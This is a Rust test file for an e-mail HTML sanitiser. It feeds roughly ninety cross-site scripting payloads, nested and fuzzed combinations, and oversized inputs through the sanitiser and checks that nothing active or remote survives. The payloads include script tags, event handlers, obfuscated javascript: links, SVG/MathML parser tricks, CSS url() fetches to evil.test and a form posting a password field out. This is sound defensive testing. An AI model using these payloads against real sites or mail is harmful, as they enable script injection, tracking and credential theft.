//! Attacks on the display of mail, known and made up. What comes out is parsed again and looked through: nothing in it may act, fetch or move.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use remote::mail::markup::{Event, decode_entities, walk};

use super::*;

fn options() -> Options {
    let inline = BTreeMap::from([("p1@x".to_owned(), "/letter/1/part/0?proof=abc".to_owned())]);
    Options { images: false, inline, leaving: false }
}

fn clean(html: &str) -> String {
    sanitise(html, &options()).html
}

/// Looks through what would be shown as a browser would, tag by tag.
fn assert_harmless(html: &str, images: bool) {
    walk(html, |_| true, &mut |event| {
        if let Event::Open { name, attributes } = event {
            assert!(allowed::ELEMENTS.contains(&name), "<{name}> in {html}");
            for (attribute, value) in attributes {
                assert_attribute(name, &attribute, &value, images, html);
            }
        }
        true
    });
    let lower = html.to_ascii_lowercase();
    for word in [
        "<script",
        "<style",
        "<svg",
        "<math",
        "<iframe",
        "<meta",
        "<base",
        "<link",
        "<form",
        "<input",
        "<!--",
        "<template",
    ] {
        assert!(!lower.contains(word), "{word} in {html}");
    }
}

fn assert_attribute(element: &str, name: &str, value: &str, images: bool, html: &str) {
    assert!(!name.starts_with("on"), "{name} in {html}");
    let squeezed: String =
        decode_entities(value).chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
    let squeezed = squeezed.to_ascii_lowercase();
    match name {
        "href" => {
            let followed =
                ["http:", "https:", "mailto:", "tel:"].iter().any(|scheme| squeezed.starts_with(scheme));
            assert!(element == "a" && followed, "href {value} in {html}");
        }
        "src" => {
            let own = squeezed.starts_with("/letter/") || squeezed.starts_with("data:image/");
            assert!(element == "img" && !squeezed.contains("svg"), "src {value} in {html}");
            assert!(own || (images && squeezed.starts_with("https://")), "src {value} in {html}");
        }
        "style" => {
            for word in
                ["url", "expression", "position", "@", "\\", "{", "import", "behavior", "binding", "/*"]
            {
                assert!(!squeezed.contains(word), "style {value} in {html}");
            }
        }
        "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
        "target" => assert_eq!(value, "_blank"),
        other => {
            let known = allowed::EVERYWHERE.contains(&other)
                || allowed::OWN.iter().any(|(_, names)| names.contains(&other));
            assert!(known, "{other} in {html}");
        }
    }
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' \u{b}onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"&Tab;javascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=\"//evil.test\" onclick=alert(1) style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"https://evil.test/a.png 1x\">",
    "<picture><source srcset=\"https://evil.test/a.png\"><img></picture>",
    "<video poster=\"https://evil.test/a.png\"><source src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body background=\"https://evil.test/a.png\" onload=alert(1)>x",
    "<table background=\"https://evil.test/a.png\"><td background=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><template><style></select><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<style>*{background:url(https://evil.test/a.png)}</style>",
    "<p style=\"background:url(https://evil.test/a.png)\">x</p>",
    "<p style=\"background:u\\72l(https://evil.test)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style='}</style><script>alert(1)</script>'>x</p>",
    "<p style=\"font-family:'</style><img src=x onerror=alert(1)>'\">x</p>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<base href=\"https://evil.test/\"><a href=\"x\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"https://evil.test/x.swf\">",
    "<applet code=x></applet>",
    "<form action=\"https://evil.test\"><input name=p type=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<dialog open>x</dialog>",
    "<input autofocus onfocus=alert(1)>",
    "<div contenteditable onfocus=alert(1) tabindex=1>x</div>",
    "<a id=parent name=parent href=\"https://x.test\">x</a><form id=document>",
    "<img name=getElementById id=letter>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<?import namespace=t implementation=#x>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<div title=\"&quot;><script>alert(1)</script>\">x</div>",
    "<div title='\"><img src=x onerror=alert(1)>'>x</div>",
    "<a title=\"x\u{0}\" href=\"java\u{0}script:alert(1)\">x</a>",
    "<a href=\"https://x.test/&quot; onmouseover=&quot;alert(1)\">x</a>",
    "\u{0}<\u{0}script>alert(1)</script>",
    "<\u{ff53}cript>alert(1)</script>",
    "<img src=`x`onerror=alert(1)>",
    "<a href='https://x.test' href='javascript:alert(1)'>x</a>",
    "<td><script>alert(1)</script><table><tr><td><style></td></tr></table><img src=x onerror=alert(1)>",
    "<b><p></b><script>alert(1)</script></p>",
    "<img src=cid:unknown@x>",
    "<img src=\"//evil.test/a.png\"><img src=\"HTTP://evil.test/a.png\">",
    "<a href=\"foredeck://x\">x</a><a href=file:///etc/passwd>y</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

#[test]
fn no_known_attack_survives() {
    for attack in ATTACKS {
        for images in [false, true] {
            let cleaned = sanitise(attack, &Options { images, ..options() });
            assert_harmless(&cleaned.html, images);
        }
    }
}

#[test]
fn attacks_inside_one_another_do_not_survive_either() {
    for outer in ATTACKS {
        for inner in ATTACKS {
            assert_harmless(&clean(&format!("<p>{outer}{inner}</p><table><tr>{inner}<td>{outer}")), false);
        }
    }
}

#[test]
fn what_is_clean_stays_clean_when_cleaned_again() {
    for attack in ATTACKS {
        let once = sanitise(attack, &Options { images: true, ..options() }).html;
        assert_harmless(&clean(&once), false);
    }
}

#[test]
fn a_letter_keeps_its_looks() {
    let html = "<body bgcolor=\"#fafafa\"><h1 style=\"color:#333\">Hi</h1><p class=\"MsoNormal x\">a <b>b</b><br>c</p><table border=0 width=\"100%\"><tr><td colspan=2 align=center>x</td></tr></table><ul><li>1</ul></body>";
    let cleaned = sanitise(html, &options());
    assert_eq!(
        cleaned.html,
        "<div bgcolor=\"#fafafa\"><h1 style=\"color:#333;\">Hi</h1><p class=\"MsoNormal\">a <b>b</b><br>c</p><table border=\"0\" width=\"100%\"><tbody><tr><td colspan=\"2\" align=\"center\">x</td></tr></tbody></table><ul><li>1</li></ul></div>"
    );
    assert!(cleaned.coloured && !cleaned.cut);
}

#[test]
fn remote_images_are_counted_and_left_out_until_asked_for() {
    let html = "<img src=\"http://t.test/a.png?x=1&amp;y\" width=300 alt=Sale><img src=https://t.test/p.gif width=1 height=1><div style=\"background:url('https://t.test/b.png')\" >x</div><table background=https://t.test/c.png><tr><td>y</table><img src=cid:p1@x><img src=\"cid:p1%40x\">";
    let shut = sanitise(html, &options());
    assert_eq!(shut.blocked_images, 4);
    assert!(shut.html.contains("<img width=\"300\" alt=\"Sale\">"), "{}", shut.html);
    assert!(!shut.html.contains("t.test"), "{}", shut.html);
    assert_eq!(shut.html.matches("src=\"/letter/1/part/0?proof=abc\"").count(), 2, "{}", shut.html);
    assert_eq!(survey(html, "x y").1, 4);
    let open = sanitise(html, &Options { images: true, ..options() });
    assert!(open.html.contains("src=\"https://t.test/a.png?x=1&amp;y\""), "{}", open.html);
}

#[test]
fn links_show_where_they_go() {
    let link = clean("<a href=\"https://evil.test/x\" onclick=y>https://bank.test</a>");
    for part in [
        "href=\"https://evil.test/x\"",
        "data-href=\"evil.test\"",
        "data-mismatch=\"evil.test\"",
        "rel=\"noopener noreferrer nofollow\"",
    ] {
        assert!(link.contains(part), "{part} in {link}");
    }
    assert!(!clean("<a href=https://shop.test>shop.test</a>").contains("mismatch"));
    assert!(
        clean("<a href=https://evil.test><b>bank</b>.<i>test</i></a>").contains("mismatch"),
        "words in pieces"
    );
    assert_eq!(clean("<a href=https://a.test>x<a href=https://b.test>y</a></a>").matches("<a ").count(), 1);
}

#[test]
fn absurd_html_is_shown_in_bounded_time() {
    let fonts: String = (0..100).map(|n| format!("<font size={n}>")).collect();
    for html in [
        "<div>".repeat(100_000),
        "<b>".repeat(100_000),
        "<table>".repeat(50_000),
        "<table><tr><td>".repeat(30_000),
        format!("<table>{fonts}{}", "<tr></tr>x".repeat(20_000)),
        format!("{fonts}{}", "<p>x</p>".repeat(20_000)),
        "<a href=https://x.test>".repeat(50_000),
        format!("<a {}>", "b ".repeat(500_000)),
        format!("<img src=\"data:image/png;base64,{}\">", "A".repeat(3_000_000)),
        "<p style=\"color:red\">".repeat(60_000),
        "<svg>".repeat(100_000),
        "<!--".repeat(200_000),
        "&".repeat(300_000),
        "&nbsp;".repeat(100_000),
        "<td rowspan=65534 colspan=1000>".repeat(10_000),
    ] {
        let start = Instant::now();
        let cleaned = sanitise(&html, &options());
        let took = start.elapsed();
        assert!(took < Duration::from_secs(30), "{} took {took:?}", &html[..40]);
        assert!(cleaned.html.len() <= 6 * LONGEST_SHOWN);
    }
    assert!(sanitise(&"x".repeat(LONGEST_SHOWN + 1), &options()).cut);
}

#[test]
fn the_page_lets_nothing_in_but_what_it_names() {
    let cleaned = sanitise("<p>x</p>", &options());
    let (page, policy) = document(&cleaned, "zh", false, "abc123");
    assert!(
        page.contains("<html lang=\"zh\" class=\"light\">") && page.contains("<script nonce=\"abc123\">")
    );
    assert_eq!(
        policy,
        "default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'; script-src 'nonce-abc123'; base-uri 'none'; form-action 'none'; sandbox allow-scripts"
    );
    let images = sanitise(
        "<p>x</p>",
        &Options {
            images: true,
            inline: BTreeMap::from([("a".into(), "http://127.0.0.1:4000/letter/1".into())]),
            leaving: false,
        },
    );
    let (_, policy) = document(&images, "en", false, "n");
    assert!(policy.contains("img-src 'self' data: http://127.0.0.1:4000 https:;"), "{policy}");
    let (page, policy) = document(&cleaned, "\"><script>", true, "a'; script-src *");
    assert!(page.contains("<html lang=\"script\" class=\"dark\">"));
    assert!(policy.contains("'nonce-ascriptsrc'"));
}

#[test]
fn a_letter_with_colours_of_its_own_gets_paper_in_the_dark() {
    let ground = |html: &str, dark| {
        let (page, _) = document(&sanitise(html, &options()), "en", dark, "n");
        page.split("class=\"").nth(1).unwrap().split('"').next().unwrap().to_owned()
    };
    assert_eq!(ground("<p>x</p>", true), "dark");
    assert_eq!(ground("<p style='color:#000'>x</p>", true), "paper");
    assert_eq!(ground("<font color=red>x</font>", true), "paper");
    assert_eq!(ground("<p style='color:#000'>x</p>", false), "light");
}

#[test]
fn html_is_shown_where_it_says_more_than_the_text() {
    for (html, more) in [
        (
            "<div dir=ltr>Thanks, <b>yes</b>.<br><a href=https://x.test>link</a></div><div class=gmail_quote><blockquote><table><tr><td>a<td>b<tr><td>c<td>d</table><img src=https://x.test/a.png></blockquote></div>",
            false,
        ),
        ("<p class=MsoNormal><span style='color:#1F497D'>Hello</span></p>", false),
        ("<table><tr><td>Only a frame</td></tr></table>", false),
        ("<p>x</p><img src=https://t.test/p.gif width=1 height=1>", false),
        ("<ul><li>a<li>b</ul>", false),
        ("<table><tr><td>Order<td>4411<tr><td>Sum<td>9</table>", true),
        ("<p>see <img src=cid:a@x></p>", true),
        ("<h1>Sale</h1>", true),
        ("<p>not <s>this</s></p>", true),
        ("<ul><li><b>a</b><li>b</ul>", true),
        ("<table><tr><td><table><tr><td><table><tr><td>newsletter</table></table></table>", true),
    ] {
        assert_eq!(says_more(html, "text"), more, "{html}");
    }
    assert!(says_more("<p>only in html</p>", " "));
}

fn tangle() -> impl Strategy<Value = String> {
    let attack = proptest::sample::select(ATTACKS).prop_map(str::to_owned);
    let piece = "(</?(svg|math|style|script|table|td|tr|p|a|b|title|textarea|noscript|select|template|mglyph|mtext|form|font|img|div)( (src|href|style|onerror|title)=['\"]?(javascript:|https://|cid:|x|</style>|<!--|-->|url\\(|&quot;|&#106;))?['\"]?/?>?|<!--|-->|<!|<\\?|]]>|\\PC|\u{0}|&#x6a;|&lt;|\"|'|>|<){1,12}";
    proptest::collection::vec(prop_oneof![1 => attack, 3 => piece.prop_map(|piece| piece)], 0..8)
        .prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn no_script_survives_whatever_is_fed(html in tangle(), images in any::<bool>()) {
        let cleaned = sanitise(&html, &Options { images, ..options() });
        assert_harmless(&cleaned.html, images);
        says_more(&html, "");
    }
}

#[test]
fn every_page_of_the_fuzz_corpus_is_cleaned() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/html");
    let files: Vec<_> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    assert!(files.len() >= 10, "the corpus has {} files", files.len());
    for file in files {
        let html = std::fs::read_to_string(&file).unwrap();
        assert_harmless(&clean(&html), false);
    }
}
